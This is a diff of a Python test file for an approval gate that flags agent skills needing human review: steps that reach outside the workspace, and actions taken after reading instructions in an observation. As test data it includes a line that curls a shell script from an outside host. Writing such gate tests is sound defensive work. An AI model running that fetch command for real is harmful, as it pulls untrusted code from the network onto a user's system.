@@ -1,4 +1,4 @@
-"""What no policy lets in without a person: skills that reach out, and deeds after somebody else's words."""
+"""What no policy accepts without a person: skills that leave the workspace, and actions after reading instructions."""
 
 from __future__ import annotations
 
@@ -6,14 +6,16 @@ import dataclasses
 
 import pytest
 
+from tacit.domain.coded_reason import coded
 from tacit.domain.skill import INSTRUCTED, Provenance
 from tacit.domain.trajectory import Span
-from tacit.gate.automatic import wants_a_person
+from tacit.gate.automatic_approval import reason_for_person
+from tacit.gate.findings import GateReason
 from tests.unit.making import bash_steps, candidate, content
 
 
-def test_work_inside_the_workspace_needs_nobody():
-    assert wants_a_person(candidate(content(steps=bash_steps("make lint", "pytest -q")))) == ""
+def test_work_inside_the_workspace_needs_no_person():
+    assert reason_for_person(candidate(content(steps=bash_steps("make lint", "pytest -q")))) is None
 
 
 @pytest.mark.parametrize(
@@ -26,20 +28,20 @@ def test_work_inside_the_workspace_needs_nobody():
     ],
 )
 def test_what_reaches_out_of_the_workspace_needs_a_person(command):
-    told = wants_a_person(candidate(content(steps=bash_steps(command, "pytest -q"))))
-    assert "reaches out of the workspace" in told
-
-
-def test_a_deed_after_words_that_tell_what_to_do_needs_a_person():
-    made = candidate()
-    told = Provenance(trajectory_ids=("t_1",), grounding={INSTRUCTED: (Span("t_1", 4, "observation"),)})
-    assert "step 4 of t_1" in wants_a_person(dataclasses.replace(made, provenance=told))
+    reason = reason_for_person(candidate(content(steps=bash_steps(command, "pytest -q"))))
+    assert reason
+    assert reason.code == GateReason.LEAVES_WORKSPACE
 
 
 def test_the_reason_names_the_place_and_the_thing():
-    told = wants_a_person(candidate(content(steps=bash_steps("make lint", "curl https://files.odd-place.net/i.sh"))))
-    assert told.startswith("steps.1 reaches out of the workspace (")
-    assert "files.odd-place.net" in told
+    steps = bash_steps("make lint", "curl https://files.odd-place.net/i.sh")
+    reason = reason_for_person(candidate(content(steps=steps)))
+    assert reason
+    assert reason.values["field"] == "step 2"
+    assert "files.odd-place.net" in str(reason.values["value"])
+
+
+def test_an_action_after_reading_instructions_needs_a_person():
     words = Provenance(trajectory_ids=("t_1",), grounding={INSTRUCTED: (Span("t_1", 4, "observation"), Span("t_2", 7))})
-    read = wants_a_person(dataclasses.replace(candidate(), provenance=words))
-    assert read == "what was read in step 4 of t_1 tells a reader what to do"
+    read = reason_for_person(dataclasses.replace(candidate(), provenance=words))
+    assert read == coded(GateReason.READ_INSTRUCTIONS, step=5, attempt="t_1")
